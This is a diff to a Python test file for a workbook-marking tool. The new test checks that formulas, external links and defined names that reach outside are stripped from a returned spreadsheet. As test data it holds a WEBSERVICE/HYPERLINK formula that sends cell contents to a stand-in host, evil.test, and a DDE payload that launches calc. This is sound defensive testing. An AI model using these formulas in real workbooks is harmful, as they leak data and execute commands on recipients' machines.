@@ -1,6 +1,9 @@
 """A refused workbook back to its author: marked, complete, and taken in again once repaired."""
 
+import re
+import zipfile
 from datetime import date, time
+from html import escape
 from pathlib import Path
 from typing import Any
 
@@ -12,7 +15,16 @@ from data.workbook.outgoing import marking
 from data.workbook.outgoing.marking import FAULTS, FILL, mark
 from data.workbook.rows import Content
 from models.text import Sentence
-from tests.data.workbook.books import Formatted, Formula, content, raw, unit_rows, write
+from tests.data.workbook.books import (
+    WORKBOOK,
+    WORKBOOK_RELATIONS,
+    Formatted,
+    Formula,
+    content,
+    raw,
+    unit_rows,
+    write,
+)
 
 UNITS = "单位网格"
 
@@ -74,9 +86,72 @@ def test_marked_workbook_has_the_same_faults(tmp_path: Path) -> None:
     path, found = marked(tmp_path, {UNITS: rows, "#备注": [["x", 1]], "未知": [["y"]]})
     assert len(found.faults) == len(odd) + 1
     again = content(path)
+    # Formulas are not copied, but stay faults.
+    formulas = {"=A1&A2": "=#N/A"}
     assert {(each.sheet, each.row, each.column, each.value) for each in again.faults} == {
-        (each.sheet, each.row, each.column, each.value) for each in found.faults
+        (each.sheet, each.row, each.column, formulas.get(str(each.value), each.value))
+        for each in found.faults
     }
+
+
+EVIL = "http://evil.test/"
+
+
+@pytest.mark.parametrize(
+    ("formula", "result"),
+    [
+        (f'WEBSERVICE("{EVIL}?"&A1)', None),
+        (f'WEBSERVICE("{EVIL}?"&A1)', "教育"),
+        (f'HYPERLINK("{EVIL}?"&A1,"教育")', "#VALUE!"),
+        ("cmd|' /C calc'!A0", None),
+        ("[1]Sheet1!A1", None),
+        ("evil", "教育"),
+    ],
+    ids=["fetched", "fetched before", "link with an error", "DDE", "other workbook", "name"],
+)
+def test_nothing_that_reaches_outside_comes_back(
+    tmp_path: Path, formula: str, result: str | None
+) -> None:
+    """The office opens the copy: no formula, link or name of the sender is in it."""
+    source = _reaching_outside(tmp_path / "source.xlsx", formula, result)
+    found = content(source)
+    mark(source, found.faults, tmp_path / "marked.xlsx", english)
+    with zipfile.ZipFile(tmp_path / "marked.xlsx") as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist()}
+    formulas = {each for part in parts.values() for each in re.findall(r"<f[ >].*?</f>", part)}
+    assert formulas <= {f"<f>{error}</f>" for error in marking.ERRORS}
+    assert not [name for name, part in parts.items() if "definedName" in part]
+    assert not [name for name in parts if "externalLinks" in name or "connections" in name]
+    assert not [name for name, part in parts.items() if "TargetMode" in part]
+    # What was sent stands in the list, as text.
+    listed = openpyxl.load_workbook(tmp_path / "marked.xlsx")[FAULTS]
+    values = {listed.cell(row, 4).value for row in range(2, listed.max_row + 1)}
+    assert values == {each.value for each in found.faults}
+
+
+def _reaching_outside(path: Path, formula: str, result: str | None) -> Path:
+    """A workbook with a fault, a formula, a link to another workbook and a name that refers to
+    it."""
+    kind = ' t="e"' if result and result.startswith("#") else ' t="str"' if result else ""
+    value = f"<v>{result}</v>" if result else ""
+    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
+    rows += '<c r="C1" t="str"><v>未知</v></c></row><row r="2"><c r="A2" t="str"><v>EDU</v></c>'
+    rows += f'<c r="B2"{kind}><f>{escape(formula)}</f>{value}</c></row>'
+    link = (
+        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
+    )
+    names = (
+        '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>'
+        '<definedNames><definedName name="evil">[1]Sheet1!$A$1</definedName></definedNames>'
+    )
+    return raw(
+        path,
+        rows,
+        relations=WORKBOOK_RELATIONS.replace("</Relationships>", link),
+        workbook=WORKBOOK.replace("</sheets>", names),
+        **{"xl/externalLinks/externalLink1.xml": f"<externalLink><a>{EVIL}</a></externalLink>"},
+    )
 
 
 def test_marked_workbook_is_taken_in_once_repaired(tmp_path: Path) -> None:
